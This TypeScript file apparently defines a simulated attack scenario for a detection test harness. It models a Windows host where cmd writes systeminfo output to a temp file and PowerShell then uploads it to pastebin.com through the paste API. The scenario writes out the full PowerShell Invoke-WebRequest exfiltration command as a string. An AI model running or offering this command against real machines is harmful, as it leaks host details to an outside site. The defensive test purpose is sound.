/**
 * Public tradecraft: collected host information is posted to Pastebin through its paste
 * API (`api_post.php`) with PowerShell, after `systeminfo` wrote it to a file.
 */

import { CMD, CONHOST, POWERSHELL, powershellCommand, type Scenario } from './scenario.js';

export const pastebinApiPost: Scenario = {
  id: 'pastebin-api-post',
  title: 'PowerShell exfiltrating systeminfo output through the Pastebin API (api_post.php)',
  platform: 'windows',
  origin: 'public tradecraft: paste sites for exfiltration',
  expect: { fileName: 'powershell.exe', host: 'pastebin.com' },
  build(w, fleet, t) {
    const h = fleet.victim;
    const base = fleet.windows.get(h)!;
    const key = w.rng.hex(32);
    const cmd = w.spawn(t, base.explorer, CMD, `"${CMD}" /c "systeminfo > %TEMP%\\si.txt"`);
    w.spawn(t + 30, cmd, 'C:\\Windows\\System32\\systeminfo.exe', 'systeminfo');
    const script =
      `Invoke-WebRequest -Uri 'https://pastebin.com/api/api_post.php' -Method Post -UseBasicParsing ` +
      `-Body @{api_dev_key='${key}'; api_option='paste'; api_paste_private='2'; ` +
      `api_paste_code=(Get-Content -Raw $env:TEMP\\si.txt)}`;
    const ps = w.spawn(t + 4100, base.explorer, POWERSHELL, powershellCommand(script));
    w.spawn(t + 4112, ps, CONHOST, `${CONHOST} 0xffffffff -ForceV1`);
    w.script(t + 4490, ps, script);
    w.reach(t + 4700, ps, 'pastebin.com');
  },
};
